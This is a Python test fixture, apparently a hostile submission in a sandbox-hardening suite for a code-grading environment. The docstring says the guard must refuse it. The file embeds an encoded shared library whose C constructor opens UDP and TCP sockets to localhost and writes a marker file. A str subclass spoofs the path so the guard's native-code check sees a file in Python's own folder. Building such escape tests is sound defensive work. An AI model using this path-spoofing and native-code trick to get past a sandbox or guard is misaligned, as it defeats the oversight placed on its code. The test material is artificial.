"""Hostile submission: opens sockets from native code, where the guard does not look.

The guard refuses ``socket.*`` audit events, but C code raises none. It writes the library
below into its working folder and loads it as an extension module past the guard's
native-code check: its origin is a ``str`` subclass whose ``[1:]`` makes the guard's
realpath name a file in Python's own folder (see ``fspath_trick.py``). The constructor sends
a UDP datagram to 127.0.0.1:9, connects a TCP socket there, and if the UDP socket opened
writes what happened to ``/tmp/torchlab-escape-native_socket``. The guard must refuse to
load the library, the worker must have no network (its own network namespace), and the score
is 0.

The library (x86_64 Linux; ``gcc -Os -s -shared -fPIC -nostartfiles -fno-asynchronous-unwind-tables
-Wl,--build-id=none,-z,noseparate-code,-z,norelro``, then ``objcopy -R .comment``)::

    #include <stdio.h>
    #include <stdlib.h>
    #include <fcntl.h>
    #include <unistd.h>
    #include <arpa/inet.h>
    __attribute__((constructor)) static void run(void) {
        struct sockaddr_in to = {AF_INET, htons(9), {htonl(0x7f000001)}};
        int udp = socket(AF_INET, SOCK_DGRAM, 0), tcp = socket(AF_INET, SOCK_STREAM, 0);
        long sent = udp >= 0 ? sendto(udp, "torchlab", 8, 0, (void *)&to, sizeof to) : -1;
        int conn = tcp >= 0 ? connect(tcp, (void *)&to, sizeof to) : -1;
        char buf[128], *mark = getenv("MARK");
        int n = snprintf(buf, sizeof buf, "udp %d sendto 127.0.0.1:9 %ld, tcp %d connect %d\n",
                         udp, sent, tcp, conn);
        int fd = mark && udp >= 0 ? open(mark, O_WRONLY | O_CREAT | O_TRUNC, 0644) : -1;
        if (fd >= 0) { write(fd, buf, n); close(fd); }
    }
"""

import base64
import contextlib
import importlib.machinery
import importlib.util
import os
import sys
import zlib

LIBRARY = (
    "eNqtVl9sFEUYn91r4aqJhUKh/j+TXvSBbLhLKpVE0q1R7+RKEKkgiMd2b8sdXncvu1O8PlHEmmxME55MH40xPPOi0T7UM7"
    "WAL2pINBpNuBfqbZTAi42+cM5sv4/OTm5FE77LzW+/38w3+83Mb2bn7IuFl1RFIWgJso9seISMAF7dLHLDpIuVW0hv2Lab"
    "xNvR7iiyoNB43Caxvj+KTSWKGKdC3EmIO9kfxVklikkIf/UGLW0i/93gdWGe+P8/tpP9+zrwu2L4J2L4ZAyfjeGfjuF7Y3"
    "glhieeY75tUeJZdok6xHRs2zIpOWVRyz5DPLvmVmw6SZyaZZN33Aq1iFl1PItUKxOm5jnas+TlQn70hWJWy2pD4bpFfwr7"
    "DQvzPP1IpYe3GiVRHeD6McGF9teOddwsr8nODV4V50/gE+L6CnyXwA8IvKjrlMCLOnpG4IUtQnYLfFLg20PuNlamKSt7nx"
    "xhT9wv86qg2WaWPs19PrTg+9Cf4D4fUtAI/WPc50MJLoX+Ie7zIQQfhf4r3OepBxdCf5T7POVgNvT3cp+nFdSYqx/JrGWu"
    "fcn7z33Oyp6zbF711/Pnv23r4/rh8ddy5/5Y4JU+HUwuhc38rsHWpyw0c22JpxnG+sutjxnlr8z9Un9K/4Kvat5vZr5Z5G"
    "PPzQ9d5G2ut/axNnn/sn7+u/bczXpfzl9d5E39W63DPBf/Sm7++fcYUZgvDW5pNe9wLvB/HvNv5/2Vg7n5/iqrXJplhX6k"
    "4P+WabR+ZW2OveGvjM3dpFn2cm3xE5bUks6SKvi3WIPfWQN/ea5R3856N38o+KutBU5db33FIHfuaz664yf0N/UT+lt6cZ"
    "k6rlmuGhNkTD+0n0yXaql0KbW+C1KZ7B5tN/tl9j6XSldLu1LUDKthd7DHB4ikV9ToMODDkr4fJVGd/3mn7YR6g0DU4ACI"
    "GrU3AvX4wgOAD2L7u+c5nKM7Ns5Pbg3A7WRDp8I2IpfUKL+gRvPE/nskn81pmH8d2rfBx3m4Df4k1P8t1d9vw++CbO/DxH"
    "wIeBHwM8DLgD8CrgKu4YRqXtmjLmVC0U7Z01rZ8MpEK83Y3szUOlJ3veaM5XoVx444RVbnWlWDN4SnWpUSjVp1VrpOyaAG"
    "0axycdI1piyiVewKLRqua8yEfRtTFZP159Aw6r4Y180aWwvUB+oP8TES1U9Siu+HPlRJn4g/CXpUOujocahTJb0jHujw3R"
    "ItDVrDeNQXYp+Uv4xZ0C76qF/EVEz+aDpseVXaL4gDMfOH/H6IH5X2H2JDiH+oQ/xB4U7FrZaI4oWY+w3iuBR/96MIuFX5"
    "9/k/DlwW/K3dURyJWT9EE57VuHtjh3uRaFMwLwnpfMX4ZEw84gyMPSGdG3jPxPtkQorD+XsX8pfP2yZM6NF7vF+R7idow3"
    "AAf3AP/f8Dx6NgUw=="
)


class Sly(str):  # realpath reads a library in Python's own folder; dlopen, the real path
    def __getitem__(self, key):
        fake = sys.base_prefix.lstrip("/") + "/lib/python-native.so"
        return fake if key == slice(1, None) else str.__getitem__(self, key)


def _load(name):
    path = os.path.abspath(name + ".so")  # its own working folder: allowed
    with open(path, "wb") as f:
        f.write(zlib.decompress(base64.b64decode("".join(LIBRARY))))
    loader = importlib.machinery.ExtensionFileLoader(name, Sly(path))
    with contextlib.suppress(ImportError):  # dlopen ran the constructor; it has no PyInit_
        importlib.util.module_from_spec(importlib.util.spec_from_loader(name, loader))


_done: list[bool] = []


def arange(*args, **kwargs):
    if not _done:
        _done.append(True)
        os.environ["MARK"] = "/tmp/torchlab-escape-native_socket"
        _load("native_socket")
    raise NotImplementedError("arange: native code opened sockets")
